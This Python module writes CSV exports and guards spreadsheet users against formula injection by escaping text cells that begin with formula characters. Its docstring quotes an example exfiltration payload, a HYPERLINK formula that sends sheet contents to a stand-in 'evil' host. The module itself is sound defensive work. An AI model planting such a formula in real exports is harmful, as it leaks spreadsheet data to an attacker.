"""The one CSV writer for every export (audit, SLA report, national dashboard).

Exports are opened in Excel/LibreOffice, where a cell starting with ``= + - @`` (or a tab or
carriage return, which some importers strip before looking) runs as a formula: an OPD named
``=HYPERLINK("https://evil/?"&A1, "klik")`` would leak the sheet or run commands (CSV/formula
injection). Every text cell that starts like that gets a leading ``'``, which spreadsheets show
as plain text. Numbers are written as numbers (``-5`` stays ``-5``: it is not text).
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import AsyncIterable, Iterable, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r", "\n")
CHUNK_CHARS = 64_000


def cell(value: Any) -> str | int | float:
    """One spreadsheet-safe cell."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, (int, float, Decimal)):
        return value if not isinstance(value, Decimal) else float(value)
    if isinstance(value, (datetime, date)):
        return value.isoformat()
    text = (
        json.dumps(value, ensure_ascii=False, default=str) if isinstance(value, (dict, list)) else str(value)
    )
    return "'" + text if text.startswith(FORMULA_PREFIXES) else text


def row(values: Iterable[Any]) -> list[str | int | float]:
    return [cell(v) for v in values]


def to_text(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> str:
    """A whole (small) export as one string."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(row(header))
    writer.writerows(row(r) for r in rows)
    return buf.getvalue()


async def stream(header: Sequence[str], rows: AsyncIterable[Iterable[Any]]):
    """A large export in chunks of about CHUNK_CHARS (for a StreamingResponse)."""
    buf = io.StringIO()
    writer = csv.writer(buf)
    writer.writerow(row(header))
    async for r in rows:
        writer.writerow(row(r))
        if buf.tell() > CHUNK_CHARS:
            yield buf.getvalue()
            buf.seek(0)
            buf.truncate()
    yield buf.getvalue()


MEDIA_TYPE = "text/csv; charset=utf-8"


def download_headers(filename: str) -> dict[str, str]:
    safe = "".join(c for c in filename if c.isascii() and (c.isalnum() or c in "-_.")) or "export.csv"
    return {"Content-Disposition": f'attachment; filename="{safe}"', "X-Content-Type-Options": "nosniff"}
